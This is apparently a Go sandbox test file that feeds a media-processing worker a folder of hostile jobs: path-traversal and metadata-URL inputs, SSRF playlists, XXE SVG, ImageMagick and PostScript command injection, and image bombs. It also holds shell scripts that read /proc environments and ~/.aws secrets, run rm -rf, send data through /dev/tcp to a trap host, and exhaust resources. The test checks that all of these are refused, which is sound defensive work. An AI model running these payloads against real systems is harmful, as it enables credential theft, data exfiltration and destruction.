//go:build linux

package hostile

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"skynet/queue"
	"skynet/worker/confine"
)

// asked are items that ask for what they may not have, and what the reason says.
var asked = map[string]struct{ item, want string }{
	"input, dots":             {`{"input":"@/media/../secret.jpg","output":"@/results/x"}`, "are not accepted"},
	"input, encoded dots":     {`{"input":"@/media/%2e%2e/secret.jpg","output":"@/results/x"}`, "encoded dots"},
	"input, another folder":   {`{"input":"file:///etc/passwd","output":"@/results/x"}`, "lies in none"},
	"input, another bucket":   {`{"input":"s3://other/x","output":"@/results/x"}`, "lies in none"},
	"input, a user":           {`{"input":"file://meATDIR/media/a.jpg","output":"@/results/x"}`, "only scheme, host and path"},
	"input, a fragment":       {`{"input":"@/media/a.jpg#x","output":"@/results/x"}`, "only scheme, host and path"},
	"input, a query":          {`{"input":"@/media/a.jpg?x=1","output":"@/results/x"}`, "only scheme, host and path"},
	"input, NUL":              {`{"input":"@/media/a.jpg\u0000.png","output":"@/results/x"}`, "not a URL"},
	"input, the network":      {`{"input":"http://TRAP/latest/meta-data","output":"@/results/x"}`, "lies in none"},
	"input, a link":           {`{"input":"@/media/link.jpg","output":"@/results/x"}`, "not a path inside the store"},
	"input, a link's folder":  {`{"input":"@/media/up/secret.jpg","output":"@/results/x"}`, "not a path inside the store"},
	"input, a pipe":           {`{"input":"@/media/pipe.jpg","output":"@/results/x"}`, "neither a file nor a folder"},
	"input, a socket":         {`{"input":"@/media/socket.jpg","output":"@/results/x"}`, "neither a file nor a folder"},
	"input, a folder":         {`{"input":"@/media","output":"@/results/x"}`, "a store is not an object"},
	"input, a huge name":      {`{"input":"@/media/` + strings.Repeat("n", 3000) + `","output":"@/results/x"}`, "at most 1024"},
	"second input, outside":   {`{"recipe":"sound","input":"@/media/a.jpg","inputs":{"intro":"@/secret.txt"},"output":"@/results/x"}`, "lies in none"},
	"output, outside":         {`{"recipe":"small","input":"@/media/a.jpg","output":"@/outside"}`, "lies in none"},
	"output, dots":            {`{"recipe":"small","input":"@/media/a.jpg","output":"@/results/../outside"}`, "are not accepted"},
	"output, a link":          {`{"recipe":"small","input":"@/media/a.jpg","output":"@/results/away"}`, "not a path inside the store"},
	"a name, dots":            {`{"input":"@/media/a.jpg","output":"@/results/x","outputs":[{"name":"../a.jpg","image":[{"do":"orient"}]}]}`, "is not a path below"},
	"a name, ours":            {`{"input":"@/media/a.jpg","output":"@/results/x","outputs":[{"name":"manifest.json","image":[{"do":"orient"}]}]}`, "is written by the worker itself"},
	"a name, by a value":      {`{"recipe":"named","input":"@/media/a.jpg","output":"@/results/x","values":{"who":"../../outside/x"}}`, "is not a path below"},
	"a name, with a command":  {`{"recipe":"named","input":"@/media/a.jpg","output":"@/results/x","values":{"who":"x\n; touch DIR/outside/x"}}`, "holds characters"},
	"a program":               {`{"input":"@/media/a.jpg","output":"@/results/x","outputs":[{"name":"a.txt","command":{"run":["/bin/sh","-c","id"]}}]}`, "may not bring a program"},
	"a mark from outside":     {`{"input":"@/media/a.jpg","output":"@/results/x","outputs":[{"name":"a.jpg","image":[{"do":"watermark","image":"@/secret.jpg"}]}]}`, "lies in none"},
	"a mark from the network": {`{"input":"@/media/a.jpg","output":"@/results/x","outputs":[{"name":"a.jpg","image":[{"do":"watermark","image":"http://TRAP/x.png"}]}]}`, "lies in none"},
	"a step's file":           {`{"input":"@/media/a.jpg","output":"@/results/x","outputs":[{"name":"a.jpg","image":[{"do":"watermark","image":"/etc/passwd"}]}]}`, "watermark"},
	"a group outside":         {`{"recipe":"small","input":"@/media/a.jpg","output":"@/results/x","group":{"name":"g","part":"../x","output":"@/outside"}}`, "is not a name"},
	"no item":                 {`{"input":"@/media/a.jpg","output":"@/results/x","run":"id"}`, `unknown key "run"`},
	"twice":                   {`{"input":"@/media/a.jpg","input":"@/secret.jpg","output":"@/results/x"}`, "given twice"},
}

// files are inputs that name other places or are bombs, by recipe.
var files = map[string]struct{ recipe, text, want string }{
	"playlist of a file":    {"film", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://DIR/secret.txt\n#EXT-X-ENDLIST\n", "not a video"},
	"playlist of the net":   {"film", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://TRAP/x.ts\n#EXT-X-ENDLIST\n", "not a video"},
	"playlist by subfile":   {"film", "#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,9,,:DIR/secret.txt\n#EXT-X-ENDLIST\n", "not a video"},
	"playlist by data":      {"film", "#EXTM3U\n#EXT-X-MAP:URI=\"data:text/plain,x\"\n#EXTINF:1,\nconcat:DIR/secret.txt|DIR/secret.txt\n", "not a video"},
	"list to concatenate":   {"film", "ffconcat version 1.0\nfile DIR/secret.txt\nfile http://TRAP/x.mp4\n", "not a video"},
	"session":               {"film", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n", "not a video"},
	"manifest":              {"film", `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>http://TRAP/x</BaseURL></Period></MPD>`, "not a video"},
	"redirecting playlist":  {"sound", "[playlist]\nFile1=http://TRAP/x.mp3\n", "not a sound"},
	"AVI that is a list":    {"film", "RIFF\x00\x00\x00\x00AVI #EXTM3U\n#EXTINF:1,\nfile://DIR/secret.txt\n", "not a video"},
	"film elsewhere":        {"film", referring, "not a video"},
	"vector picture":        {"small", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://TRAP/x.png"/><image xlink:href="file://DIR/secret.jpg"/></svg>`, "not an image"},
	"entities":              {"small", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://DIR/secret.txt">]><svg>&x;</svg>`, "not an image"},
	"ImageMagick's script":  {"small", "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://TRAP/x.png\"|touch DIR/outside/x\"'\npop graphic-context", "not an image"},
	"ImageMagick's label":   {"small", "label:@DIR/secret.txt", "not an image"},
	"PostScript":            {"small", "%!PS\n(DIR/secret.txt) (r) file\n%pipe%touch DIR/outside/x\n", "not an image"},
	"PDF":                   {"small", "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://TRAP/)>>>>endobj", "not an image"},
	"archive":               {"small", "PK\x03\x04../../outside/x", "not an image"},
	"picture of 4 Tpixels":  {"small", "GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff\x2c\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02\x44\x01\x00\x3b", "pixels"},
	"picture that goes off": {"small", "II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00\x08\x00\x00\x00", "not an image"},
}

// referring is a QuickTime film whose data lie in another file.
const referring = "\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  \x00\x00\x00\x4cmoov\x00\x00\x00\x44rmra\x00\x00\x00\x3crmda\x00\x00\x00\x34rdrf\x00\x00\x00\x00url \x00\x00\x00\x20http://127.0.0.1:1/secret.mov\x00\x00\x00"

// captives are what a program may do that a file has got hold of. Where want is empty it
// may end well: what it got is in its output, which is looked through.
var captives = map[string]struct{ script, want string }{
	"its environment":       {`env > out/env.txt; cat /proc/self/environ /proc/1/environ /proc/$PPID/environ >> out/env.txt 2>&1; true`, ""},
	"all environments":      {`cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > out/x.txt 2>&1; true`, ""},
	"open files":            {`for f in /proc/self/fd/* /proc/$PPID/fd/* /proc/[0-9]*/fd/*; do head -c 1000 <"$f" & sleep 0; done > out/x.txt 2>&1; sleep 0.3; kill %1 %2 %3; true`, ""},
	"secrets":               {`cat DIR/secret.txt DIR/secrets/* DIR/queue/token DIR/worker.yaml ~/.aws/* /root/.aws/* > out/x.txt 2>&1; true`, ""},
	"others' items":         {`cat DIR/scratch/*/*/input-* DIR/media/* > out/x.txt 2>&1; grep -q JFIF out/x.txt && echo CANARY | sed s/CANARY/` + canary + `/ >> out/x.txt; true`, ""},
	"writes outside":        {`echo x > DIR/outside/x; echo x > DIR/secret.txt; rm -rf DIR/media DIR/results DIR/queue; mv DIR/secret.txt out/; ln DIR/secret.txt out/l.txt; echo done > out/x.txt`, ""},
	"a link for an output":  {`ln -s DIR/secret.txt out/x.txt`, "is a link"},
	"a link for its folder": {`rmdir out; ln -s DIR/secrets out`, "left no file"},
	"a pipe for an output":  {`mkfifo out/x.txt`, "is a folder or a device"},
	"a device":              {`mknod out/x.txt c 1 5 || echo refused >&2; exit 4`, "refused"},
	"the metadata service":  {`(echo GET / > /dev/tcp/169.254.169.254/80) 2>/dev/null && exit 0; (echo > /dev/tcp/TRAPHOST/TRAPPORT) && exit 0; echo refused >&2; exit 5`, "refused"},
	"datagrams":             {`(echo leak > /dev/udp/TRAPHOST/TRAPPORT) && exit 0; echo refused >&2; exit 6`, "refused"},
	"names":                 {`timeout 2 getent hosts x.example.com && exit 0; echo refused >&2; exit 7`, "refused"},
	"the worker's end":      {`kill -9 $PPID; kill -9 -1; echo x > out/x.txt; exit 8`, "bash"},
	"the queue":             {`(echo > /dev/tcp/127.0.0.1/$(cat DIR/queue/port)) && exit 0; echo refused >&2; exit 9`, "refused"},
	"for ever":              {`trap '' TERM INT HUP; while :; do sleep 1; done`, "ran longer than 4s"},
	"in a session":          {`setsid bash -c 'trap "" TERM; exec -a hostile-orphan sleep 600' >/dev/null 2>&1 </dev/null & sleep 0.1; echo x > out/x.txt`, ""},
	"many processes":        {`for i in $(seq 400); do sleep 5 & done; sleep 5`, "bash"},
	"memory":                {`x=$(head -c 1000000000 /dev/zero | tr '\0' x); exit 3`, "bash"},
	"the disk":              {`cat /dev/zero > out/x.txt; sleep 1; exit 3`, "bash"},
	"the disk, in pieces":   {`for i in $(seq 100); do head -c 1000000 /dev/zero > out/$i.txt; done; exit 0`, "wrote more than 8MiB"},
	"the disk, hidden":      {`for i in $(seq 100); do exec {fd}> x; head -c 1000000 /dev/zero >&$fd; rm x; done; sleep 3; exit 3`, "wrote more than 8MiB"},
	"talk":                  {`cat /dev/zero | tr '\0' x`, "bash"},
	"complaints":            {"printf '\\033]0;pwned\\007\\033[2J%s\\n' $(head -c 2000 /dev/zero | tr '\\0' y) >&2; exit 3", "bash ended with status 3"},
	"its input":             {`echo x > in/input && echo x > out/x.txt; exit 3`, "ermission denied"},
	"odd names":             {"touch \"out/$(printf 'a\\nb').txt\"", "holds characters"},
	"a name like a flag":    {`echo fine > out/-rf.txt`, ""},
}

// TestItems: a folder of attacks goes through the queue and the real worker.
func TestItems(t *testing.T) {
	if missing := confine.Missing(); len(missing) > 0 {
		t.Skipf("this kernel confines no program wholly, so nothing is shown here: %s", strings.Join(missing, "; "))
	}
	s := newSite(t)
	s.lay()
	for n := range 6 {
		s.write(fmt.Sprintf("media/good-%d.jpg", n), photo(t, uint8(n)))
	}
	wants := map[string]string{} // by a part of the item's body
	good := 0
	among := func() {
		if good < 6 {
			s.send(fmt.Sprintf(`{"recipe":"small","input":"@/media/good-%d.jpg","output":"@/results/good/%[1]d"}`, good))
			good++
		}
	}
	for name, c := range asked {
		wants[s.filled(c.item)] = c.want
		s.send(c.item)
		if len(name)%5 == 0 {
			among()
		}
	}
	host, port, _ := net.SplitHostPort(s.trap.address)
	own := strings.NewReplacer("TRAPHOST", host, "TRAPPORT", port)
	lay := func(recipe, text, want string) {
		at := fmt.Sprintf("hostile-%d.bin", len(wants))
		s.write("media/"+at, s.filled(own.Replace(text)))
		item := fmt.Sprintf(`{"recipe":%q,"input":"@/media/%s","output":"@/results/%[2]s"}`, recipe, at)
		wants[s.filled(item)] = want
		s.send(item)
	}
	for _, c := range files {
		lay(c.recipe, c.text, c.want)
	}
	for range 6 {
		among()
	}
	for _, c := range captives {
		lay("captive", c.script, c.want)
	}
	before := s.print("media", "secrets", "outside", "secret.txt", "secret.jpg")
	worker, log := s.start()
	s.awaitEmpty()
	dead, err := s.queue.DeadLetters(t.Context(), 1000)
	if err != nil {
		t.Fatal(err)
	}
	s.judge(wants, dead)
	if err := worker.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := worker.Wait(); err != nil {
		t.Errorf("the worker ended: %v", err)
	}
	for n := range 6 {
		if _, err := os.Stat(filepath.Join(s.dir, fmt.Sprintf("results/good/%d/small.jpg", n))); err != nil {
			t.Errorf("a good item is not done: %v", err)
		}
	}
	if after := s.print("media", "secrets", "outside", "secret.txt", "secret.jpg"); after != before {
		t.Errorf("outside has changed: it was\n%s\nand is\n%s", before, after)
	}
	if n := s.trap.calls.Load(); n != 0 {
		t.Errorf("%d calls have reached the network", n)
	}
	if found := s.holding("results"); len(found) > 0 {
		t.Errorf("secrets are in %q", found)
	}
	said, _ := os.ReadFile(log)
	if strings.Contains(string(said), canary) || strings.Contains(string(said), "\x1b]") {
		t.Errorf("the log holds a secret, or steers a terminal:\n%s", said)
	}
	if left, _ := os.ReadDir(filepath.Join(s.dir, "scratch")); len(left) != 0 {
		t.Errorf("scratch holds %v", left)
	}
	if left := running("hostile-orphan"); len(left) > 0 {
		t.Errorf("still running: %v", left)
	}
	if t.Failed() {
		t.Logf("the worker said\n%s", said)
	}
}

// lay puts traps for the store into its folders.
func (s *site) lay() {
	s.Helper()
	for _, dir := range []string{"media", "results", "outside"} {
		if err := os.MkdirAll(filepath.Join(s.dir, dir), 0o755); err != nil {
			s.Fatal(err)
		}
	}
	s.write("media/a.jpg", photo(s.T, 99))
	l, err := net.Listen("unix", filepath.Join(s.dir, "media/socket.jpg"))
	if err != nil {
		s.Fatal(err)
	}
	s.Cleanup(func() { _ = l.Close() })
	for _, err := range []error{
		os.Symlink(filepath.Join(s.dir, "secret.jpg"), filepath.Join(s.dir, "media/link.jpg")),
		os.Symlink("..", filepath.Join(s.dir, "media/up")),
		os.Symlink(filepath.Join(s.dir, "outside"), filepath.Join(s.dir, "results/away")),
		syscall.Mkfifo(filepath.Join(s.dir, "media/pipe.jpg"), 0o600),
	} {
		if err != nil {
			s.Fatal(err)
		}
	}
}

// judge compares what was given up with what had to be.
func (s *site) judge(wants map[string]string, dead []queue.Dead) {
	s.Helper()
	for _, d := range dead {
		want, known := wants[string(d.Body)]
		delete(wants, string(d.Body))
		if !known || !strings.Contains(d.Reason, want) && !limited(string(d.Body), d.Reason) {
			s.Errorf("%.300s was given up: %q, want %q", d.Body, d.Reason, want)
		}
		if strings.Contains(d.Reason, canary) || strings.ContainsAny(d.Reason, "\x1b\x07") || len(d.Reason) > 4000 {
			s.Errorf("%.300s: a reason of %d bytes: %q", d.Body, len(d.Reason), d.Reason)
		}
	}
	for item, want := range wants {
		if want != "" {
			s.Errorf("%.300s was done, want %q", item, want)
		}
	}
}

// limited reports an attack that a limit ended before it came to what it wanted: which of
// them comes first depends on how busy the machine is.
func limited(item, reason string) bool {
	return strings.Contains(item, `"captive"`) && (strings.Contains(reason, "longer than 4s") || strings.Contains(reason, "more disk than 8MiB"))
}

// print lists files, what kind they are and what they hold.
func (s *site) print(names ...string) string {
	var b strings.Builder
	for _, name := range names {
		_ = filepath.WalkDir(filepath.Join(s.dir, name), func(file string, d os.DirEntry, err error) error {
			var text []byte
			if err == nil && d.Type().IsRegular() {
				text, _ = os.ReadFile(file)
			}
			fmt.Fprintf(&b, "%s %v %.60q %d\n", strings.TrimPrefix(file, s.dir), err, text, len(text))
			return nil
		})
	}
	return b.String()
}

func (s *site) awaitEmpty() {
	s.Helper()
	for deadline := time.Now().Add(3 * time.Minute); ; time.Sleep(100 * time.Millisecond) {
		d, err := s.queue.Depth(s.Context())
		if err == nil && d.Visible == 0 && d.InFlight == 0 && d.Delayed == 0 {
			return
		}
		if time.Now().After(deadline) {
			s.Fatalf("the queue is not empty: %+v, %v", d, err)
		}
	}
}

// running are processes by a word of their command line.
func running(word string) (found []string) {
	lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, l := range lines {
		if text, _ := os.ReadFile(l); strings.HasPrefix(string(text), word) {
			found = append(found, l)
		}
	}
	return found
}
